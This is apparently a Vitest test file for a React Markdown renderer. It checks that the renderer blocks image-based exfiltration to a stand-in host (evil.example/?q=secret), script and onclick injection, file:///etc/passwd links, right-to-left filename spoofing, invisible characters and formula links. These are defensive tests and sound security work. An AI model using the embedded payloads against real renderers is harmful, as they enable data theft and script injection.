import { screen, waitFor } from "@testing-library/react";
import { useState, type ReactNode } from "react";
import { expect, it, vi } from "vitest";
import { quickBackend, renderPage } from "../testing/render";
import { Markdown } from "./markdown";

/** Shows one after the other, at each press. */
function Stages({ of }: { of: readonly ReactNode[] }) {
  const [at, setAt] = useState(0);
  return (
    <>
      <button onClick={() => setAt(at + 1)}>Next stage</button>
      {of[at]}
    </>
  );
}

const next = { name: "Next stage" };

it("never loads a picture: its address could carry something away", () => {
  const { container } = renderPage(<Markdown text="![the notes](https://evil.example/?q=secret)" />);
  expect(container.querySelector("img")).toBeNull();
  expect(screen.getByText("the notes")).toBeTruthy();
});

it("shows raw HTML as text", () => {
  const { container } = renderPage(<Markdown text={'<script>alert(1)</script>\n\n<b onclick="x">bold</b>'} />);
  expect(container.querySelector("script")).toBeNull();
  expect(container.querySelector("b")).toBeNull();
});

it("opens web links outside, and no others", async () => {
  const openURL = vi.fn(() => Promise.resolve());
  const { user } = renderPage(<Markdown text="[web](https://docs.example.com) [file](file:///etc/passwd)" />, { ...quickBackend(), openURL });
  await user.click(screen.getByText("file"));
  await user.click(screen.getByText("web"));
  await waitFor(() => expect(openURL.mock.calls).toEqual([["https://docs.example.com"]]));
});

it("makes code that can be copied, and tables", () => {
  renderPage(<Markdown text={"```sh\nls -l\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"} />);
  expect(screen.getByLabelText("Code").textContent).toBe("ls -l\n");
  expect(screen.getByRole("table").textContent).toBe("ab12");
});

it("shows characters that would turn a name around", () => {
  const { container } = renderPage(<Markdown text={"Open **photo\u202Egnp.exe** and 👩\u200D💻."} />);
  expect(container.textContent).toBe("Open photoU+202Egnp.exe and 👩\u200D💻.");
  expect(screen.getByText("U+202E").tagName).toBe("MARK");
});

it("shows characters that cannot be seen, but for joiners where they belong", () => {
  const { container } = renderPage(<Markdown text={"pay\u200Bpal `pay\u00ADpal` pay\u200Dpal \u0645\u06CC\u200C\u062E \uFEFF."} />);
  expect(container.textContent).toBe("payU+200Bpal payU+00ADpal payU+200Dpal \u0645\u06CC\u200C\u062E U+FEFF.");
});

it("aligns the columns of a table as it says", () => {
  renderPage(<Markdown text={"| a | b |\n|---|--:|\n| 1 | 2 |"} />);
  expect(screen.getByText("2").style.textAlign).toBe("right");
  expect(screen.getByText("b").style.textAlign).toBe("right");
});

it("goes to a footnote of the same text, and makes no link of what leads nowhere", async () => {
  const { user, container } = renderPage(<Markdown text={"See[^1] and [the plan](docs/plan.md) ![chart](chart.png)\n\n[^1]: Measured."} />);
  const seen: Element[] = [];
  for (const place of container.querySelectorAll("[id]")) place.scrollIntoView = () => seen.push(place);
  await user.click(screen.getByRole("link", { name: "1" }));
  expect(seen[0]?.textContent).toContain("Measured.");
  expect(screen.queryByRole("link", { name: /plan/ })).toBeNull();
  expect(container.textContent).toContain("the plan docs/plan.md");
  expect(container.textContent).toContain("chart chart.png");
});

it("keeps what has not changed while a text grows, and shows its end", async () => {
  const start = "# One\n\nTwo\n\n";
  const { user, container } = renderPage(<Stages of={[`${start}thr`, `${start}three\n\nfour`].map((text) => <Markdown key="" text={text} growing />)} />);
  const before = [...container.querySelectorAll("h2, p")];
  await user.click(screen.getByRole("button", next));
  const after = [...container.querySelectorAll("h2, p")];
  expect(after.map((block) => block.textContent)).toEqual(["One", "Two", "three", "four"]);
  expect(after.slice(0, 2)).toEqual(before.slice(0, 2));
});

it("draws an answer of five million characters piece by piece", async () => {
  const text = Array.from({ length: 50_000 }, (_, i) => `Paragraph ${i} ${"word ".repeat(18)}`).join("\n\n");
  const { user, container } = renderPage(<Stages of={[<Markdown key="a" text={text} />, <Markdown key="b" text={text} growing />, <Markdown key="c" text={"x".repeat(5_000_000)} />]} />);
  expect(container.querySelectorAll("p")).toHaveLength(150);
  await user.click(screen.getByRole("button", { name: "Show more of it" }));
  expect(container.querySelectorAll("p")).toHaveLength(300);
  await user.click(screen.getByRole("button", next));
  expect(container.textContent).toContain("Paragraph 49999");
  expect(container.querySelectorAll("p")).toHaveLength(150);
  await user.click(screen.getByRole("button", next));
  expect(container.textContent.length).toBeLessThan(10_000);
});

it("colours code when it is whole", async () => {
  const { user, container } = renderPage(<Stages of={["```ts\nconst a = 1;", "```ts\nconst a = 1;\n```"].map((text) => <Markdown key="" text={text} growing />)} />);
  expect(screen.getByLabelText("Code").textContent).toBe("const a = 1;");
  await user.click(screen.getByRole("button", next));
  await waitFor(() => expect(container.querySelector(".text-code-word")?.textContent).toBe("const"));
  expect(screen.getByLabelText("Code").textContent).toBe("const a = 1;\n");
});

it("draws formulas, and shows what is none as it was written", async () => {
  const { container } = renderPage(<Markdown text={"So $a^2$:\n\n$$\n\\frac{1}{2}\n$$\n\nand $\\undefined_x$ or $5."} />);
  await waitFor(() => expect(container.querySelectorAll("math")).toHaveLength(2));
  expect(container.querySelector("math[display=block] mfrac")).toBeTruthy();
  expect(container.textContent).toContain("\\undefined_x");
  expect(container.textContent).toContain("or $5.");
});

it("follows no link of a formula", async () => {
  const { container } = renderPage(<Markdown text={"$\\href{https://evil.example}{x_1}$ and $\\includegraphics{https://evil.example/a_b.png}$"} />);
  await waitFor(() => expect(container.querySelector("math")).toBeTruthy());
  expect(container.querySelector("a, img, mglyph")).toBeNull();
});
